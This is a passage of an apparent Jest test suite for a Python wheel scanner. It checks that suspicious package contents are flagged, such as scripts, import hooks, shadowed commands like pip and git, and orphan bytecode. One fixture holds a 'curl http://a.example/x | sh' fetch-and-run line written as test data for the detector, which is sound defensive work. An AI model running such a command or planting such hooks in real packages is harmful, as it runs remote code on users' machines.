    [{ "orchard-1.0.data/scripts/fit": "#!/bin/sh\ncurl http://a.example/x | sh\n" }, "danger decoded-code fit"],
    [{ "orchard-1.0.data/scripts/fit": "#!/bin/sh\nwget $1\n" }, "warning process fit"],
    [{ "orchard-1.0.data/data/bin/activate": "" }, "warning py-data-scripts data/bin/activate"],
    [{ "orchard-1.0.data/data/pyvenv.cfg": "" }, "warning py-data-scripts data/pyvenv.cfg"],
    [
      { "orchard-1.0.data/data/share/jupyter/kernels/python3/kernel.json": "" },
      "warning py-data-scripts data/share/jupyter/kernels/python3/kernel.json",
    ],
    [{ "orchard-1.0.data/headers/Python.h": "" }, "warning py-data-scripts headers/Python.h"],
    [{ "orchard-1.0.data/headers/orchard.h": "" }, "notice py-data-scripts headers/orchard.h"],
    [
      { "orchard-1.0.dist-info/entry_points.txt": "[pytest11]\norchard = orchard.plugin\n" },
      "warning import-hook pytest11",
    ],
    [{ "orchard-1.0.data/scripts/git": "" }, "warning well-known-command git"],
    [
      { "orchard-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = orchard:main\n" },
      "warning well-known-command pip",
    ],
  ])("%j is %j", (files, expected) => {
    expect(found(wheel(files as Record<string, string>))).toContain(expected);
  });

  test("its own package, commands and metadata say nothing", () => {
    expect(wheel({ "orchard-1.0.dist-info/entry_points.txt": "[console_scripts]\norchard = orchard:main\n" })).toEqual(
      [],
    );
    const named = {
      "yaml/__init__.py": "",
      "_yaml/__init__.py": "",
      "PyYAML-6.0.dist-info/top_level.txt": "_yaml\nyaml\n",
    };
    expect(signalsOf({ name: "PyYAML", kind: "binary", files: named })).toEqual([]);
    const attrs = { "attr/__init__.py": "", "attrs/__init__.py": "" };
    expect(signalsOf({ name: "attrs", kind: "binary", files: attrs })).toEqual([]);
    expect(signalsOf({ name: "beautifulsoup4", kind: "binary", files: { "bs4/__init__.py": "" } })).toEqual([]);
  });

  test("bytecode whose source is missing", () => {
    const signals = wheel(
      {},
      {
        others: [
          { path: "orchard/__pycache__/__init__.cpython-312.pyc", kind: "python-bytecode" },
          { path: "orchard/__pycache__/hidden.cpython-312.pyc", kind: "python-bytecode" },
          { path: "orchard/data.bin", kind: "python-bytecode" },
        ],
      },
    );
    expect(found(signals)).toEqual([
      "danger bytecode-without-source orchard/__pycache__/hidden.cpython-312.pyc",
      "danger bytecode-without-source orchard/data.bin",
    ]);
  });
});
